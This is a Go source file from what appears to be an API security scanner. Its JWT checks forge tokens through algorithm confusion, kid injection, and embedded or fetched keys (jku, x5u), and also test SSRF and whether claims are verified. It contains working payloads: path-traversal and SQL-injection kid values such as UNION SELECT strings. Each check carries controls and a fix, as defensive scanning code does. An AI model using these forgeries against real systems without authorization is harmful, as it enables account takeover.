package check

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"time"

	"github.com/crenel-project/crenel/internal/scan/actor"
	"github.com/crenel-project/crenel/internal/scan/graph"
	"github.com/crenel-project/crenel/internal/scan/scenario"
	"github.com/crenel-project/crenel/internal/scan/target"
)

var (
	_ = register(&Check{
		ID: "jwt-confusion", Title: "A token signed with the public key as a shared secret is believed",
		OWASP: "API2:2023", CWE: "CWE-347", WSTG: "WSTG-SESS-10", CVSS: vectorTakeover,
		About: "Looks for the key that verifies tokens (key sets, discovery, certificates, the token's own header, the target's certificate of TLS, documents of the API), and signs a user's token with HS256 and that key, in the forms in which servers keep it.",
		Proof: "It opens what the real one opens. Controls: the real token does; no token, one with a wrong signature, and one signed with HS256 and another secret do not.",
		Fix:   "Set the algorithm by configuration and never by the token's header, and give each key to its own algorithm alone (RFC 8725, sections 2.1 and 3.1); publish no shared secret.",
		Mode:  Safe,
		Run:   jwtConfusion,
	})
	_ = register(&Check{
		ID: "jwt-kid", Title: "A token's key id leads to a key of the caller's choice",
		OWASP: "API2:2023", CWE: "CWE-347", WSTG: "WSTG-SESS-10", CVSS: vectorTakeover,
		About: "Presents a user's token with a kid that names an empty file, ends a query with a key of ours, or names nothing, signed with the key that this would give.",
		Proof: "It opens what the real one opens. Controls: the real token does; no token, one with a wrong signature, and one signed with the same key under a plain kid do not.",
		Fix:   "Look a kid up in a fixed list of keys, never in the file system or by a query made of it, and refuse what is not in the list (RFC 8725, section 3.10).",
		Mode:  Safe,
		Run:   jwtKid,
	})
	_ = register(&Check{
		ID: "jwt-key-url", Title: "A token brings the key that it is verified with",
		OWASP: "API2:2023", CWE: "CWE-347", WSTG: "WSTG-SESS-10", CVSS: vectorTakeover,
		About: "Presents a user's token signed with a key of ours, which the header holds (jwk, x5c) or says where to fetch (jku, x5u: our listener).",
		Proof: "It opens what the real one opens, or our listener was called. Controls: the real token does; no token, one with a wrong signature, and one signed with our key without saying where it is do not.",
		Fix:   "Take keys from configured issuers alone; ignore jwk, jku, x5c and x5u in a token's header (RFC 8725, section 3.10).",
		Mode:  Safe,
		Run:   jwtKeyURL,
	})
	_ = register(&Check{
		ID: "jwt-claims", Title: "What a token says of its own validity is not looked at",
		OWASP: "API2:2023", CWE: "CWE-345", WSTG: "WSTG-SESS-10",
		CVSS:  "CVSS:4.0/AV:N/AC:L/AT:P/PR:L/UI:N/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N",
		About: "Where tokens can be forged, presents a user's token for another audience, of another issuer, or not valid before tomorrow. A claim that real tokens do not have is not asked for.",
		Proof: "It opens what the real one opens. Controls: the real token does; no token, and one with a wrong signature, do not.",
		Fix:   "Verify iss, aud, nbf and exp of every token against configured values (RFC 8725, sections 3.8 and 3.9; RFC 7519, section 4.1).",
		Mode:  Safe, Alone: true, // after those that find how tokens are forged here, while nothing changes what the user reads
		Run: jwtClaims,
	})
)

// claiming is the same forgery with other claims.
func (f *forgery) claiming(claims, note string) *forgery {
	g := *f
	g.args = maps.Clone(f.args)
	if g.args == nil {
		g.args = map[string]string{}
	}
	g.args["claims"], g.note = claims, note
	return &g
}

func (l *Lab) forgedBy() *forgery {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.forger
}

// forgedWith tries one forgery whose making takes several steps: first alone,
// then as a whole scenario with its controls.
func (p *Probe) forgedWith(ctx context.Context, f *forgery) (bool, error) {
	h, ok, err := p.worth(ctx, f)
	if err != nil || !ok {
		return false, err
	}
	proven, err := p.Prove(ctx, h)
	if proven {
		p.forges(f)
	}
	return proven, err
}

// worth runs a forgery without its controls, and says whether it did anything.
func (p *Probe) worth(ctx context.Context, f *forgery) (Hypothesis, bool, error) {
	var h Hypothesis
	user := p.Actor(actor.User)
	if user == nil || !isJWT(credential(user)) {
		return h, false, nil
	}
	w, err := p.witness(ctx, user)
	if err != nil || w == nil {
		return h, false, err
	}
	if h, err = p.forgeHypothesis(w, *f); err != nil {
		return h, false, nil //nolint:nilerr // a call that cannot be written as a step proves nothing
	}
	quick := slices.DeleteFunc(slices.Clone(h.Scenario.Steps), func(st scenario.Step) bool { return st.Part == scenario.Control && st.ID != "own" })
	out, err := p.attempt(ctx, &scenario.Scenario{Name: h.Scenario.Name, Steps: quick}, false)
	if err != nil {
		return h, false, err
	}
	p.Note(w.call.Op, Clean)
	return h, out.Verdict == scenario.Proven, nil
}

// keyPaths are where keys that verify tokens are served, from the host's root.
var keyPaths = []string{
	"/.well-known/jwks.json", "/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/.well-known/jwks", "/jwks.json", "/jwks", "/oauth/jwks", "/oauth2/jwks", "/oauth/token_key",
	"/auth/jwks", "/auth/jwks.json", "/api/jwks", "/api/.well-known/jwks.json", "/keys", "/certs", "/public.pem", "/public_key.pem", "/public-key", "/publickey", "/public.key", "/jwt.pub", "/api/public-key", "/auth/public-key", "/cert.pem",
}

// servedKey is where a key is to be had: the step that fetches it (nil: the user's
// token brings it), as a variable, and what was read there.
type servedKey struct {
	before   []scenario.Step
	variable string
	text     string
}

// servedKeys are the answers that hold a key, and what else does.
func (p *Probe) servedKeys(ctx context.Context) ([]servedKey, error) {
	out, err := p.shownKeys(ctx)
	if err != nil {
		return nil, err
	}
	most := len(out) + 4
	seen := map[string]bool{}
	look := func(send scenario.Send) (string, error) {
		if seen[fmt.Sprint(send.Root, send.Path)] || len(out) >= most {
			return "", nil
		}
		seen[fmt.Sprint(send.Root, send.Path)] = true
		x, err := p.Do(ctx, nil, &target.Request{Method: http.MethodGet, Path: send.Path, Root: send.Root})
		if errors.Is(err, target.ErrRefused) {
			return "", nil
		}
		if err != nil || x.Status/100 != 2 || len(x.Body) > 64<<10 {
			return "", err
		}
		if _, err := scenario.PublicKey(string(x.Body), ""); err == nil || strings.Contains(string(x.Body), `"oct"`) {
			out = append(out, servedKey{[]scenario.Step{{ID: "keys", Part: scenario.Setup, Note: "nobody fetches the key", Send: &send, Expect: []scenario.Expect{{Status: "2xx"}}, Save: []scenario.Save{{As: "keys", Pattern: `(?s)^(.+)$`}}}}, "${keys}", string(x.Body)})
		}
		return string(x.Body), nil
	}
	for _, op := range p.Graph.Ops {
		if op.Method != http.MethodGet || len(op.PathParams) > 0 || op.Has(graph.Hazard) || !reKeyPath.MatchString(op.Path) {
			continue
		}
		if _, err := look(scenario.Send{Method: http.MethodGet, Path: op.Path}); err != nil {
			return nil, err
		}
	}
	paths := slices.Clone(keyPaths)
	for i := 0; i < len(paths); i++ {
		for _, root := range []bool{true, false} {
			if !root && p.Client.Base() == "" {
				continue
			}
			text, err := look(scenario.Send{Method: http.MethodGet, Path: paths[i], Root: root})
			if err != nil {
				return nil, err
			}
			if next := p.keySetOf(text); next != "" && !slices.Contains(paths, next) {
				paths = append(paths, next)
			}
		}
	}
	return out, nil
}

// shownKeys are the keys that nothing has to be looked for: the user's token may bring
// its own, and a target that speaks TLS shows a certificate, whose key some sign tokens
// with, too.
func (p *Probe) shownKeys(ctx context.Context) ([]servedKey, error) {
	var out []servedKey
	if token := credential(p.Actor(actor.User)); token != "" {
		if _, err := scenario.PublicKey(token, token); err == nil {
			out = append(out, servedKey{nil, "${user.token}", token})
		}
	}
	shown, err := p.certificate(ctx)
	if err != nil || shown == nil {
		return out, err
	}
	shake := scenario.Step{ID: "keys", Part: scenario.Setup, Note: "nobody looks at the target's certificate", Handshake: &scenario.Handshake{}, Save: []scenario.Save{{As: "keys", At: "/certificate/pem"}}}
	return append(out, servedKey{[]scenario.Step{shake}, "${keys}", shown.PEM}), nil
}

// keySetOf is the path of the key set that a discovery document names, if it is
// on the target itself (OpenID Connect Discovery 1.0, section 3; RFC 8414, section 2).
func (p *Probe) keySetOf(text string) string {
	v, ok := scenario.Decode([]byte(text))
	if !ok {
		return ""
	}
	for _, found := range scenario.Find(v, "/jwks_uri") {
		if path, mine := strings.CutPrefix(scenario.Plain(found), p.Client.Origin()); mine && strings.HasPrefix(path, "/") && !strings.ContainsAny(path, "?#") {
			return path
		}
	}
	return ""
}

func jwtConfusion(ctx context.Context, p *Probe) error {
	token := credential(p.Actor(actor.User))
	header, _, err := scenario.ParseJWT(token)
	if err != nil {
		return nil //nolint:nilerr // there are no such tokens here
	}
	keys, err := p.servedKeys(ctx)
	if err != nil {
		return err
	}
	shared := strings.HasPrefix(fmt.Sprint(header["alg"]), "HS")
	tried := map[string]bool{}
	for _, k := range keys {
		if shared {
			if _, err := scenario.Call("jwt.published", map[string]string{"token": token, "keys": k.text}); err != nil {
				continue
			}
			f := forgery{do: "jwt.published", args: map[string]string{"keys": k.variable, "claims": `{"exp":"@now+600"}`}, note: "signed anew with the shared secret that the API publishes", before: k.before}
			if done, err := p.forgedWith(ctx, &f); err != nil || done {
				return err
			}
			continue
		}
		for _, form := range scenario.KeyForms {
			made, err := scenario.Call("jwt.confuse", map[string]string{"token": token, "keys": k.text, "form": form})
			if err != nil || tried[fmt.Sprint(made)] {
				continue
			}
			tried[fmt.Sprint(made)] = true
			f := forgery{
				do: "jwt.confuse", args: map[string]string{"keys": k.variable, "form": form}, note: "signed with HS256 and the public key as the secret", before: k.before,
				refused: &forgery{do: "jwt.hmac", args: map[string]string{"key": "${canary.key}"}, note: "signed with HS256 and another secret"},
			}
			if done, err := p.forgedWith(ctx, &f); err != nil || done {
				return err
			}
		}
	}
	return nil
}

func jwtKid(ctx context.Context, p *Probe) error {
	header, _, err := scenario.ParseJWT(credential(p.Actor(actor.User)))
	if err != nil {
		return nil //nolint:nilerr // there are no such tokens here
	}
	alg := fmt.Sprint(header["alg"])
	if !strings.HasPrefix(alg, "HS") {
		alg = "HS256"
	}
	up := strings.Repeat("../", 12)
	const ours = "crenel-scan-key"
	type guess struct{ kid, key, note string }
	list := []guess{
		{up + "dev/null", "", "whose kid leads to an empty file, and signed with an empty key"},
		{"/dev/null", "", "whose kid leads to an empty file, and signed with an empty key"},
		{"/proc/sys/kernel/randomize_va_space", "2\n", "whose kid leads to a file of known content, and signed with that"},
		{up + "proc/sys/kernel/randomize_va_space", "2\n", "whose kid leads to a file of known content, and signed with that"},
		{"x' UNION SELECT '" + ours + "' -- ", ours, "whose kid ends a query with a key of ours, and signed with that"},
		{`x" UNION SELECT "` + ours + `" -- `, ours, "whose kid ends a query with a key of ours, and signed with that"},
		{"0 UNION SELECT '" + ours + "' -- ", ours, "whose kid ends a query with a key of ours, and signed with that"},
		{"x' UNION SELECT '" + ours + "','" + ours + "' -- ", ours, "whose kid ends a query with a key of ours, and signed with that"},
		{"${canary.nothing}", "", "whose kid names nothing, and signed with an empty key"},
		{"", "", "with an empty kid, and signed with an empty key"},
	}
	for _, g := range list {
		beside := jsonString("crenel-${canary.plain}")
		if g.kid == "${canary.nothing}" || g.kid == "" {
			beside = jsonOf(header["kid"]) // null takes it away
		}
		args := func(kid string) map[string]string {
			a := map[string]string{"alg": alg, "header": `{"kid":` + kid + `}`, "key": g.key}
			return a
		}
		f := forgery{
			do: "jwt.hmac", args: args(jsonString(g.kid)), note: g.note,
			refused: &forgery{do: "jwt.hmac", args: args(beside), note: "signed with the same key under a plain kid"},
		}
		if done, err := p.forgedWith(ctx, &f); err != nil || done {
			return err
		}
	}
	return nil
}

func jwtKeyURL(ctx context.Context, p *Probe) error {
	if _, _, err := scenario.ParseJWT(credential(p.Actor(actor.User))); err != nil {
		return nil //nolint:nilerr // there are no such tokens here
	}
	alone := &forgery{do: "jwt.sign", note: "signed with our key alone"}
	list := []forgery{
		{do: "jwt.sign", args: map[string]string{"embed": "jwk"}, note: "signed with a key of ours that its header holds", refused: alone},
		{do: "jwt.sign", args: map[string]string{"embed": "x5c"}, note: "signed with a key of ours whose certificate its header holds", refused: alone},
	}
	if p.Listener != nil {
		keys := func(do string) []scenario.Compute {
			return []scenario.Compute{{Set: "served", Do: do, Args: map[string]string{"token": "${user.token}"}}}
		}
		list = append(list,
			forgery{
				do: "jwt.sign", args: map[string]string{"header": `{"jku":"${listener.keys}"}`}, note: "signed with a key of ours that its header (jku) says where to fetch",
				compute: keys("key.jwks"), serve: []scenario.Serve{{Listener: "keys", Body: "${served}"}}, refused: alone,
			},
			forgery{
				do: "jwt.sign", args: map[string]string{"header": `{"x5u":"${listener.keys}"}`}, note: "signed with a key of ours whose certificate its header (x5u) says where to fetch",
				compute: keys("key.certificate"), serve: []scenario.Serve{{Listener: "keys", Type: "application/x-pem-file", Body: "${served}"}}, refused: alone,
			})
	}
	for i := range list {
		f := &list[i]
		if done, err := p.forgedWith(ctx, f); err != nil || done {
			return err
		}
		if len(f.serve) == 0 {
			continue
		}
		if done, err := p.fetchesKey(ctx, f); err != nil || done {
			return err
		}
	}
	return nil
}

// fetchesKey: the key is not believed, but it is fetched: whoever holds any
// token makes the server call any address.
func (p *Probe) fetchesKey(ctx context.Context, f *forgery) (bool, error) {
	user := p.Actor(actor.User)
	w, err := p.witness(ctx, user)
	if err != nil || w == nil {
		return false, err
	}
	own, err := p.look(w, "own", scenario.Control, actor.User, "the user's token opens it", scenario.Expect{Status: "2xx"})
	if err != nil {
		return false, nil //nolint:nilerr // a call that cannot be written as a step proves nothing
	}
	attack, _ := p.look(w, "attack", scenario.Attack, actor.User, "a token "+f.note+" makes the server fetch it", scenario.Expect{Status: "any"}, scenario.Expect{Called: "keys", By: time.Second})
	attack.Compute, attack.Serve, attack.Send.Credential = f.computing("forged"), f.serve, "${forged}"
	header := "jku"
	if strings.Contains(f.args["header"], "x5u") {
		header = "x5u"
	}
	return p.Prove(ctx, Hypothesis{
		Where: "credential." + header, OWASP: "API7:2023", CWE: "CWE-918", CVSS: "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:L/VI:N/VA:N/SC:L/SI:L/SA:N",
		Title:       "The server fetches keys from wherever a token says",
		Description: fmt.Sprintf("A token whose header names our listener in %s makes the server call it, before the token is known to be genuine. The key that it gets there is not believed.", header),
		Scenario:    &scenario.Scenario{Name: "a key fetched from the caller's address", Steps: []scenario.Step{own, attack}},
	})
}

func jwtClaims(ctx context.Context, p *Probe) error {
	_, claims, err := scenario.ParseJWT(credential(p.Actor(actor.User)))
	if err != nil {
		return nil //nolint:nilerr // there are no such tokens here
	}
	f := p.forgedBy()
	if f == nil || f.do == "jwt.none" { // what is not verified at all says nothing of what is
		key := p.cracked(ctx)
		if key == "" || !scenario.HMACVerifies(credential(p.Actor(actor.User)), []byte(key)) {
			return nil
		}
		f = &forgery{do: "jwt.hmac", args: map[string]string{"key": key}, note: "signed anew with a guessed secret"}
	}
	for _, c := range []struct{ claim, text, note string }{
		{"aud", `{"exp":"@now+600","aud":"https://crenel-scan.example/other-audience"}`, "for another audience"},
		{"iss", `{"exp":"@now+600","iss":"https://crenel-scan.example/other-issuer"}`, "of another issuer"},
		{"nbf", `{"exp":"@now+172800","nbf":"@now+86400"}`, "not valid before tomorrow"},
	} {
		if _, there := claims[c.claim]; !there && c.claim != "nbf" {
			continue
		}
		h, ok, err := p.worth(ctx, f.claiming(c.text, f.note+", "+c.note))
		if err != nil {
			return err
		}
		if !ok {
			continue
		}
		h.Where, h.Title = "credential."+c.claim, fmt.Sprintf("Tokens %s are accepted (%s)", c.note, c.claim)
		if _, err := p.Prove(ctx, h); err != nil {
			return err
		}
	}
	return nil
}

// reKeyPath are the paths of operations that may serve keys.
var reKeyPath = regexp.MustCompile(`(?i)jwks|well-known|(^|[/_.-])(public|verif\w*|signing)?[/_.-]?(keys?|certs?|certificates?|pem)([/_.-]|$)`)
